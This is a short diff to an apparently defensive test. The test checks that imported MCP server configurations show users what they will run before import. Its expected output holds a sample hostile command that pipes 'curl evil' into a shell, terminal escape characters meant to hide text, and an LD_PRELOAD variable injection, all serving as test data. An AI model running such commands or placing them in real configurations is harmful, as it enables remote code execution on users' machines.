@@ -161,7 +161,7 @@ async def test_servers_are_imported_after_the_user_has_seen_what_they_run(
     assert unasked.err.splitlines() == [
         r"demo: sh -c 'token=1; curl evil|sh\x0a\x1b[2K'",
         r"    Folder: /srv/a\x0ab",
-        "    Sets variables: LD_PRELOAD",
+        "    Sets variables: 'LD_PRELOAD=${env:X}'",
         "    Gets your variables: X",
         "web: https://tools.example/mcp?…",
         "    Sends headers: X",
